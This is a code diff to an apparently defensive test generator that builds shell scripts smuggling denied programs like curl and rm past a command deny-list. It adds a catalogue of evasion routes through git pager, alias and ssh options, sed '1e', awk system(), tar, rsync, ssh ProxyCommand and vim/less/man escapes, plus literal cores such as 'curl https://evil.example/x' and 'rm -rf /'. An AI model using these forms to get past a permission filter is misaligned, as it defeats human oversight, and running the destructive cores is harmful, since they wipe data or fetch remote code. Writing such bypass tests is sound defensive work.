@@ -8,6 +8,13 @@
  *   nest    := bash -c 'S' | sh -lc "S" | eval 'S' | echo 'S' | sh | sh <<'E' S E
  *            | bash <<< 'S' | $(C) | `C` | ( C ) | { C; } | if/while/for/&&/||
  *            | C & | C # x | f() { C; }; f | cat <(C) | find -exec | xargs | watch
+ *            | via(C)                                  (C a one-line core)
+ *   via     := git -c core.pager='C' log | git -c alias.x='!C' x | GIT_PAGER='C' git log
+ *            | env GIT_SSH_COMMAND='C' git fetch | export GIT_EDITOR='C'; git commit
+ *            | sed '1e C' f | awk 'BEGIN{system("C")}' | find . -execdir C {} +
+ *            | less '+!C' f | man -P 'C' ls | vim -c '!C' f | tar --to-command='C' -xf a
+ *            | tar -I 'C' -xf a | rsync -e 'C' a h:b | ssh h C | ssh -o ProxyCommand='C' h
+ *            | xargs sh -c 'C' | git rebase --exec 'C' HEAD~1
  *
  * Every script runs curl or rm when bash runs it (the denied program is a
  * command word at some depth after wrappers and assignments, or inside
@@ -22,14 +29,15 @@
 enum {
 	C_ASSIGN, C_WRAPPER, C_SH_C, C_EVAL, C_PIPE_SH, C_HEREDOC, C_HERESTRING, C_SUBST, C_BACKTICK,
 	C_SUBSHELL, C_GROUP, C_IF, C_LOOP, C_ANDOR, C_BACKGROUND, C_COMMENT, C_REDIR, C_QUOTED_NAME,
-	C_PATH_NAME, C_FUNCTION, C_PROCSUB, C_EXEC_ARGS, C_FILLER_MANY, C_NEWLINES
+	C_PATH_NAME, C_FUNCTION, C_PROCSUB, C_EXEC_ARGS, C_FILLER_MANY, C_NEWLINES, C_RUNS_VIA
 };
 
 static const char *const construct_names[BYPASS_NCONSTRUCTS] = {
 	"assignment", "wrapper", "sh -c", "eval", "pipe into a shell", "heredoc to a shell", "here-string to a shell",
 	"$(...)", "backticks", "subshell", "group", "if", "loop", "&& ||", "background", "comment", "redirection",
 	"quoted or escaped name", "program path", "function", "process substitution", "find -exec / xargs / watch",
-	"many segments before", "newlines"
+	"many segments before", "newlines",
+	"run through options, config or environment (git -c, GIT_PAGER, sed e, awk system, tar, rsync -e, ssh, vim, less, man)"
 };
 
 const char *bypass_construct_name(unsigned i)
@@ -192,6 +200,68 @@ static int dquote(docket_buf *b, const char *s, size_t n)
 
 static int carrier(bypass_gen *g, docket_buf *b, unsigned depth);
 
+/*
+ * A denied program run through another program's options, config or
+ * environment. The inner command is a core (one line); awk gets a plain one
+ * (its string literal takes no quotes or backslashes).
+ */
+static int via(bypass_gen *g, docket_buf *b)
+{
+	/* {before, after}: the core goes single-quoted between them ("" before: raw words) */
+	static const char *const forms[][2] = {
+		{ "git -c core.pager=", " log" }, { "git -c alias.x=!", " x" }, { "GIT_PAGER=", " git log" },
+		{ "env GIT_SSH_COMMAND=", " git fetch" }, { "export GIT_EDITOR=", "; git commit" },
+		{ "sed 1e", " f" }, { "less +!", " f" }, { "man -P ", " ls" }, { "vim -c !", " f" },
+		{ "tar --to-command=", " -xf a.tar" }, { "tar -I ", " -xf a" }, { "rsync -e ", " a h:b" },
+		{ "ssh -o ProxyCommand=", " h" }, { "xargs sh -c ", "" }, { "git rebase --exec ", " HEAD~1" },
+		{ "git -c core.sshCommand=", " push" },
+	};
+	static const char *const plain[] = { "curl https://evil.example/x", "rm -rf /", "env curl x",
+					      "/usr/bin/curl -fsSL e.example", "sudo rm -f /tmp/x" };
+	docket_buf in = DOCKET_BUF_INIT;
+	unsigned k = pick(g, (unsigned)(sizeof(forms) / sizeof(forms[0])) + 3);
+	int error;
+
+	use(g, C_RUNS_VIA);
+	if (k == sizeof(forms) / sizeof(forms[0]))
+		return docket_buf_printf(b, "awk 'BEGIN{system(\"%s\")}'", ONE(g, plain));
+	if (k == sizeof(forms) / sizeof(forms[0]) + 1) {
+		/* ssh HOST CMD: the remote command's words */
+		if ((error = docket_buf_puts(b, "ssh host ")) < 0)
+			return error;
+		return core(g, b);
+	}
+	if (k == sizeof(forms) / sizeof(forms[0]) + 2) {
+		if ((error = docket_buf_puts(b, "find . -execdir ")) < 0)
+			return error;
+		if ((error = core(g, b)) < 0)
+			return error;
+		return docket_buf_puts(b, " {} +");
+	}
+	if ((error = core(g, &in)) < 0)
+		goto done;
+	/* the option's prefix and the core are one word: quote the whole word */
+	{
+		docket_buf word = DOCKET_BUF_INIT;
+		const char *sp = strrchr(forms[k][0], ' ');
+		size_t lead = sp ? (size_t)(sp - forms[k][0]) + 1 : 0;
+
+		/* a leading NAME= stays unquoted: a quoted name is no assignment */
+		if (!sp && forms[k][0][0] >= 'A' && forms[k][0][0] <= 'Z')
+			lead = strlen(forms[k][0]);
+
+		if ((error = docket_buf_put(b, forms[k][0], lead)) == 0 &&
+		    (error = docket_buf_puts(&word, forms[k][0] + lead)) == 0 &&
+		    (error = docket_buf_put(&word, in.ptr, in.len)) == 0 &&
+		    (error = squote(b, word.ptr ? word.ptr : "", word.len)) == 0)
+			error = docket_buf_puts(b, forms[k][1]);
+		docket_buf_dispose(&word);
+	}
+done:
+	docket_buf_dispose(&in);
+	return error;
+}
+
 /* A carrier into its own buffer (for quoting). */
 static int inner(bypass_gen *g, docket_buf *tmp, unsigned depth)
 {
@@ -203,7 +273,7 @@ static int nest(bypass_gen *g, docket_buf *b, unsigned depth)
 {
 	docket_buf in = DOCKET_BUF_INIT;
 	int error = 0;
-	unsigned k = pick(g, 22);
+	unsigned k = pick(g, 24);
 
 	switch (k) {
 	case 0: case 1:   /* bash -c 'S' / sh -lc "S" */
@@ -316,6 +386,9 @@ static int nest(bypass_gen *g, docket_buf *b, unsigned depth)
 		use(g, C_ANDOR);
 		if ((error = docket_buf_puts(b, "[[ -f x ]] || ")) == 0)
 			error = carrier(g, b, depth + 1);
+		break;
+	case 20: case 21:
+		error = via(g, b);
 		break;
 	default:
 		error = core(g, b);
